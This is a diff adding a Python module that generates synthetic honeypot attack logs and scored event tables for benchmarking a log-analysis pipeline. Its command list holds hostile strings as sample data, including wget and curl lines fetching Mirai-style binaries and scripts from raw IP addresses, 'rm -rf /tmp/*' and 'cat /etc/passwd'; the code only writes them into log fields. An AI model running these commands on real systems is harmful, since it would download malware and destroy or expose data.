@@ -0,0 +1,69 @@
+"""Synthetic attacks.log generator shared by the benchmarks."""
+import json
+import random
+from datetime import datetime, timedelta
+
+import numpy as np
+import pandas as pd
+
+COMMANDS = [
+    "help", "ls", "ls -la", "cat config.txt", "cat /etc/passwd", "status", "version",
+    "enable", "sh", "system", "/bin/busybox MIRAI", "wget http://45.9.148.3/bins/mirai.arm7",
+    "curl -O http://185.10.68.1/x.sh", "rm -rf /tmp/*", "reboot", "login admin",
+    "admin", "password", "whoami", "uname -a", "ping", "shutdown -h now",
+]
+
+ATTACK_TYPES = ["Reconnaissance", "Brute Force Attempt", "Malware Download Attempt",
+                "System Disruption Attempt", "Destruction Attempt", "General Probe"]
+COUNTRIES = ["CN", "US", "RU", "BR", "IN", "DE", "VN", "KR", "NL", "FR"]
+RISK_LEVELS = ["Low", "Medium", "High"]
+
+def synthetic_events(rows, unique_ips=50_000, seed=42, start=None):
+    rng = random.Random(seed)
+    ts = start or datetime(2026, 1, 1)
+    ips = [f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
+           for _ in range(unique_ips)]
+    for _ in range(rows):
+        ts += timedelta(milliseconds=rng.randint(1, 2000))
+        yield {
+            "timestamp": ts.isoformat(),
+            "source_ip": rng.choice(ips),
+            "port": 2323,
+            "command": rng.choice(COMMANDS),
+            "status": "command received",
+        }
+
+def write_synthetic_log(path, rows=None, size_mb=None, **kwargs):
+    """Write a JSONL log with ``rows`` events or until it reaches ``size_mb``."""
+    limit = size_mb * 1024 * 1024 if size_mb else None
+    written = 0
+    count = 0
+    with open(path, "w") as f:
+        for event in synthetic_events(rows or 10**12, **kwargs):
+            line = json.dumps(event) + "\n"
+            f.write(line)
+            written += len(line)
+            count += 1
+            if limit and written >= limit:
+                break
+    return count
+
+def random_ips(n, rng):
+    """Up to ``n`` distinct random IPv4 addresses (numpy Generator ``rng``)."""
+    return list(dict.fromkeys(f"{a}.{b}.{c}.{d}" for a, b, c, d in rng.integers(1, 255, (n, 4))))
+
+def enriched_day_frame(rows, day, ips, rng):
+    """One day of already classified and scored events, in time order."""
+    def cat(values):
+        return pd.Categorical.from_codes(rng.integers(0, len(values), rows), values)
+    offsets = np.sort(rng.integers(0, 86_400_000_000, rows))
+    return pd.DataFrame({
+        "timestamp": day + pd.to_timedelta(offsets, unit="us"),
+        "source_ip": cat(ips),
+        "port": np.full(rows, 2323, dtype=np.uint16),
+        "command": cat(COMMANDS),
+        "attack_type": cat(ATTACK_TYPES),
+        "country": cat(COUNTRIES),
+        "threat_score": rng.integers(0, 101, rows).astype(np.float64),
+        "risk_level": cat(RISK_LEVELS),
+    })